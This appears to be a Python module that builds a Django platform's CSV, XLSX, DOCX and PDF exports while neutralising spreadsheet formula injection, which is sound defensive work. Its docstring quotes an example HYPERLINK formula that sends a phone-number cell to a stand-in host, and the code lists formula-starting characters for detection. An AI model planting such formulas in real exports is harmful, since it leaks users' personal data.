"""Exports: every file the platform writes for people to open in a spreadsheet (CSV, XLSX; a later DOCX or
PDF goes through `cell_value` too) is built here, so that what a caller typed is always shown as text.

A spreadsheet evaluates a cell that begins with `=` as a formula (and `+`, `-`, `@`, which Excel and
LibreOffice turn into one): an address `=HYPERLINK("http://x/?p="&H2,"详情")` in an export would send the
phone in H2 off-site the moment someone clicks it. So:

- XLSX: every str is written as a string cell (`data_type = "s"`, an inline string in write-only mode),
  which no spreadsheet evaluates, whatever it begins with; one that begins like a formula also gets the
  quote prefix (Excel's `'`), so editing the cell keeps it text. Numbers stay numbers. Characters XML
  cannot hold (control characters) become U+FFFD instead of failing the whole file.
- CSV has no cell types, so text is neutralised as OWASP recommends: a text cell beginning with `=`, `+`,
  `-`, `@`, TAB or CR (and NUL, which ASVS adds) gets a leading `'`, and every cell is quoted with its
  double quotes doubled. Only text gets the prefix: a number we produce (a level, a count, -3) is written
  as it is. A UTF-8 BOM leads the file so Excel reads it as UTF-8.
- Times are text in the current time zone (settings.TIME_ZONE, Asia/Shanghai) with their offset,
  `2026-12-06 20:15:03 +08:00`, in both formats. An Excel datetime cell has no zone at all: whoever opens it
  could not tell Beijing time from UTC, and CSV would need text anyway; the fixed-width text sorts in time
  order and reads the same everywhere.
- Headers and choice labels are whatever the caller passes, translated in the active language (the
  language switcher's cookie, see command_center.middleware): callers pass gettext'd labels.

- DOCX (python-docx): a `Document` is a title, headings, paragraphs and tables (a `Sheet`'s rows); every
  value goes through `cell_value` and is written as a text run — Word has no formulas in text, and a field
  code cannot be made from a run's text — with the characters XML cannot hold replaced as in XLSX. Runs
  carry an East Asian font (SimSun, 宋体) so Chinese shows in Word and LibreOffice alike.

- PDF (reportlab): the same `Document`, its text in reportlab's built-in CID font STSong-Light — no font
  file needed, and the Chinese text reads back out of the file (copy, search, pypdf). Paragraph text is
  escaped (reportlab's paragraphs read a small markup), so a value is shown as it is, never as markup.

A sheet is described once (`Sheet`: rows, with a style for title and header rows) and written as CSV
(`csv_bytes`) or XLSX (`xlsx_bytes`); `download()` makes the response.
"""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Callable, Iterable, Sequence
from dataclasses import dataclass, field
from datetime import date, datetime
from decimal import Decimal
from typing import TYPE_CHECKING, Any, Literal, TypeVar

from django.http import HttpResponse
from django.utils import timezone
from django.utils.functional import Promise
from django.utils.http import content_disposition_header

if TYPE_CHECKING:
    from openpyxl.worksheet._write_only import WriteOnlyWorksheet

T = TypeVar("T")
# A row's look in XLSX: a title, a header (bold), a label and its value (the label bold); CSV has none.
Style = Literal["title", "header", "label"] | None

CONTENT_TYPES: dict[str, str] = {
    "csv": "text/csv; charset=utf-8",
    "xlsx": "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
    "docx": "application/vnd.openxmlformats-officedocument.wordprocessingml.document",
    "pdf": "application/pdf",
}

# What a spreadsheet may read as the start of a formula (OWASP's list, with ASVS's NUL).
FORMULA_START = ("=", "+", "-", "@", "\t", "\r", "\0")
# What an XML 1.0 document cannot carry (openpyxl refuses the workbook if a cell holds one).
XML_ILLEGAL = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f\ufffe\uffff]")
# Excel's longest cell; longer text is cut (openpyxl would cut it silently too), saying so.
XLSX_MAX_CHARS = 32767
CUT = " […]"


def local_time(value: datetime | None) -> str:
    """`2026-12-06 20:15:03 +08:00`: the moment in the current time zone (settings.TIME_ZONE unless one was
    activated), with its offset. A naive datetime is taken to be in that zone already."""
    if value is None:
        return ""
    if timezone.is_naive(value):
        value = timezone.make_aware(value)
    local = timezone.localtime(value)
    offset = local.strftime("%z")  # +0800
    return f"{local:%Y-%m-%d %H:%M:%S} {offset[:3]}:{offset[3:]}"


def cell_value(value: Any) -> str | int | float | Decimal | None:
    """What a cell holds, in any format: numbers as numbers, times as `local_time` text, None as empty,
    lazy translations and everything else as their text."""
    if value is None:
        return None
    if isinstance(value, bool):  # before int: a bool is an int
        return str(value)
    if isinstance(value, int | float | Decimal):
        return value
    if isinstance(value, datetime):
        return local_time(value)
    if isinstance(value, date):
        return value.isoformat()
    if isinstance(value, Promise):
        return str(value)
    return value if isinstance(value, str) else str(value)


def looks_like_formula(text: str) -> bool:
    return text.startswith(FORMULA_START)


def csv_safe(value: Any) -> str:
    """A CSV cell's text: text that a spreadsheet would read as a formula gets a leading `'` (quoting is the
    writer's: `csv_bytes` quotes every cell)."""
    v = cell_value(value)
    if v is None:
        return ""
    if isinstance(v, str):
        return "'" + v if looks_like_formula(v) else v
    return str(v)  # a number we produced: -3 stays -3


def xlsx_text(text: str) -> str:
    """Text an XLSX cell can hold: control characters replaced, cut at Excel's limit."""
    text = XML_ILLEGAL.sub("\ufffd", text)
    if len(text) > XLSX_MAX_CHARS:
        text = text[: XLSX_MAX_CHARS - len(CUT)] + CUT
    return text


@dataclass
class Sheet:
    """One table of an export: its rows (a header, a title, data), written as CSV or as a worksheet."""

    title: str
    rows: list[tuple[list[Any], Style]] = field(default_factory=list)
    widths: Sequence[int] = ()  # XLSX column widths, first column first

    def row(self, *values: Any, style: Style = None) -> None:
        self.rows.append((list(values), style))

    @classmethod
    def table(
        cls,
        title: str,
        columns: Sequence[tuple[str, Callable[[T], Any]]],
        items: Iterable[T],
        *,
        widths: Sequence[int] = (),
    ) -> Sheet:
        """A header row of the columns' labels, then one row per item of each column's value."""
        sheet = cls(title, widths=widths)
        sheet.row(*(label for label, _get in columns), style="header")
        for item in items:
            sheet.row(*(get(item) for _label, get in columns))
        return sheet


def csv_bytes(sheet: Sheet) -> bytes:
    """The sheet as CSV (UTF-8 with a BOM, every cell quoted and neutralised): titles and styles dropped,
    every row as it is."""
    buf = io.StringIO()
    writer = csv.writer(buf, quoting=csv.QUOTE_ALL)
    for values, _style in sheet.rows:
        writer.writerow([csv_safe(v) for v in values])
    return ("\ufeff" + buf.getvalue()).encode("utf-8")


def xlsx_bytes(*sheets: Sheet) -> bytes:
    """The sheets as one workbook (openpyxl, write-only: rows are streamed, not kept as cell objects)."""
    from openpyxl import Workbook
    from openpyxl.utils import get_column_letter

    wb = Workbook(write_only=True)
    for sheet in sheets:
        ws = wb.create_sheet(_sheet_title(sheet.title))
        for i, width in enumerate(sheet.widths, start=1):
            ws.column_dimensions[get_column_letter(i)].width = width
        for values, style in sheet.rows:
            # A label row: only its first cell (the label) is bold.
            ws.append([_xlsx_cell(ws, v, None if style == "label" and n else style) for n, v in enumerate(values)])
    out = io.BytesIO()
    wb.save(out)
    return out.getvalue()


def _sheet_title(title: str) -> str:
    """Excel allows 31 characters, none of []:*?/\\, and no apostrophe at either end in a sheet's name."""
    return re.sub(r"[\[\]:*?/\\]", " ", title)[:31].strip("'") or "Sheet"


def _xlsx_cell(ws: WriteOnlyWorksheet, value: Any, style: Style) -> Any:
    from openpyxl.cell import WriteOnlyCell
    from openpyxl.styles import Font

    v = cell_value(value)
    if isinstance(v, str):
        cell = WriteOnlyCell(ws, value=xlsx_text(v))
        # openpyxl types a str that begins with "=" as a formula when it is set: type it as text after.
        cell.data_type = "s"
        if looks_like_formula(v):
            cell.quotePrefix = True
    else:
        cell = WriteOnlyCell(ws, value=v)
    if style in ("header", "label"):
        cell.font = Font(bold=True)
    elif style == "title":
        cell.font = Font(bold=True, size=14)
    return cell


@dataclass
class Document:
    """A document (DOCX): a title, then blocks in order — headings, paragraphs, tables."""

    title: str
    blocks: list[tuple[str, Any]] = field(default_factory=list)

    def heading(self, text: str) -> None:
        self.blocks.append(("heading", text))

    def paragraph(self, text: Any) -> None:
        self.blocks.append(("paragraph", text))

    def table(self, sheet: Sheet) -> None:
        self.blocks.append(("table", sheet))


EAST_ASIAN_FONT = "SimSun"


def _docx_text(value: Any) -> str:
    v = cell_value(value)
    return "" if v is None else XML_ILLEGAL.sub("\ufffd", str(v))


def _docx_font(run: Any, *, bold: bool = False) -> None:
    from docx.oxml.ns import qn

    run.bold = bold or None
    run.font.name = EAST_ASIAN_FONT
    fonts = run._element.get_or_add_rPr().get_or_add_rFonts()
    fonts.set(qn("w:eastAsia"), EAST_ASIAN_FONT)


def docx_bytes(document: Document) -> bytes:
    """The document as DOCX (python-docx): every value as the text of a run."""
    from docx import Document as Docx

    doc = Docx()
    _docx_font(doc.add_heading(level=0).add_run(_docx_text(document.title)))
    for kind, value in document.blocks:
        if kind == "heading":
            _docx_font(doc.add_heading(level=1).add_run(_docx_text(value)))
        elif kind == "paragraph":
            _docx_font(doc.add_paragraph().add_run(_docx_text(value)))
        else:
            rows = value.rows
            width = max((len(values) for values, _style in rows), default=0)
            table = doc.add_table(rows=0, cols=max(width, 1))
            table.style = "Table Grid"
            for values, style in rows:
                cells = table.add_row().cells
                for n, v in enumerate(values):
                    _docx_font(cells[n].paragraphs[0].add_run(_docx_text(v)), bold=style in ("header", "title"))
    out = io.BytesIO()
    doc.save(out)
    return out.getvalue()


PDF_FONT = "STSong-Light"


def _pdf_font() -> str:
    from reportlab.pdfbase import pdfmetrics
    from reportlab.pdfbase.cidfonts import UnicodeCIDFont

    if PDF_FONT not in pdfmetrics.getRegisteredFontNames():
        pdfmetrics.registerFont(UnicodeCIDFont(PDF_FONT))
    return PDF_FONT


def _pdf_text(value: Any) -> str:
    from xml.sax.saxutils import escape

    return escape(_docx_text(value))


def pdf_bytes(document: Document) -> bytes:
    """The document as PDF (reportlab, A4): title, headings, paragraphs and tables (with a grid), every
    value escaped text in a CJK font; Chinese lines break between any two characters."""
    from reportlab.lib import colors
    from reportlab.lib.pagesizes import A4
    from reportlab.lib.styles import ParagraphStyle
    from reportlab.lib.units import mm
    from reportlab.platypus import Paragraph, SimpleDocTemplate, Spacer, Table, TableStyle

    font = _pdf_font()
    body = ParagraphStyle("body", fontName=font, fontSize=10.5, leading=16, wordWrap="CJK")
    bold = ParagraphStyle("bold", parent=body, textColor=colors.black)
    title = ParagraphStyle("title", parent=body, fontSize=18, leading=26, spaceAfter=8)
    heading = ParagraphStyle("heading", parent=body, fontSize=13.5, leading=20, spaceBefore=8, spaceAfter=4)
    story: list[Any] = [Paragraph(_pdf_text(document.title), title)]
    for kind, value in document.blocks:
        if kind == "heading":
            story.append(Paragraph(_pdf_text(value), heading))
        elif kind == "paragraph":
            story.append(Paragraph(_pdf_text(value), body))
        else:
            data = [
                [Paragraph(_pdf_text(v), bold if style in ("header", "title") else body) for v in values]
                for values, style in value.rows
            ]
            if data:
                width = max(len(r) for r in data)
                data = [r + [""] * (width - len(r)) for r in data]
                table = Table(data, repeatRows=1)
                table.setStyle(TableStyle([("GRID", (0, 0), (-1, -1), 0.5, colors.grey)]))
                story += [Spacer(1, 2 * mm), table]
    out = io.BytesIO()
    SimpleDocTemplate(
        out, pagesize=A4, title=_docx_text(document.title), leftMargin=18 * mm, rightMargin=18 * mm
    ).build(story)
    return out.getvalue()


def download(content: bytes, *, kind: str, filename: str) -> HttpResponse:
    """The file (`kind`: csv, xlsx, docx or pdf) as an attachment (a non-ASCII name is sent as RFC 6266's
    `filename*`)."""
    response = HttpResponse(content, content_type=CONTENT_TYPES[kind])
    response["Content-Disposition"] = content_disposition_header(as_attachment=True, filename=filename)
    return response


def write(sheet: Sheet, *, kind: str, filename: str) -> HttpResponse:
    """One sheet as the file the caller asked for: `kind` csv or xlsx."""
    content = csv_bytes(sheet) if kind == "csv" else xlsx_bytes(sheet)
    return download(content, kind=kind, filename=filename)


def stamp(now: datetime | None = None) -> str:
    """`20261206-2015`: the local time for a file name."""
    return f"{timezone.localtime(now or timezone.now()):%Y%m%d-%H%M}"
